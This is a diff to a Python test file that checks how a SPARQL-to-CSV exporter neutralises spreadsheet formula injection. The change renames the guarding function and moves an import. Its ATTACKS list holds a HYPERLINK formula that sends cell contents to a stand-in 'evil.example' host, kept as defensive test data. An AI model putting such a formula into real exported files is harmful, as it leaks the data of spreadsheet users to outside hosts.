@@ -6,9 +6,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from publisher.errors import QueryError
 from publisher.sparql.engine import Triples
-from publisher.sparql.errors import QueryError
-from publisher.sparql.sheet import comma_separated, guarded, sheet_of
+from publisher.sparql.sheet import as_text_cell, comma_separated, sheet_of
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"more")',
@@ -38,12 +38,12 @@ def answer(query: str, **values: str) -> ox.QuerySolutions:
 
 @pytest.mark.parametrize("text", ATTACKS)
 def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
-    assert guarded(text) == f"'{text}"
+    assert as_text_cell(text) == f"'{text}"
 
 
 @pytest.mark.parametrize("text", PLAIN)
 def test_any_other_text_and_every_number_stays(text: str) -> None:
-    assert guarded(text) == text
+    assert as_text_cell(text) == text
 
 
 @given(st.text())
@@ -51,7 +51,7 @@ def test_no_cell_begins_as_a_formula_and_none_is_lost(text: str) -> None:
     lines = sheet_of(answer('SELECT ("x" AS ?first) ?text { }', text=text)).decode()
     (header, row) = csv.reader(io.StringIO(lines, newline=""))
     assert header == ["first", "text"]
-    assert row == ["x", guarded(text)]
+    assert row == ["x", as_text_cell(text)]
     assert row[1].removeprefix("'") in {text, text.removeprefix("'")}
     assert row[1][:1] not in set("=@")
     if row[1][:1] in {"+", "-"}:
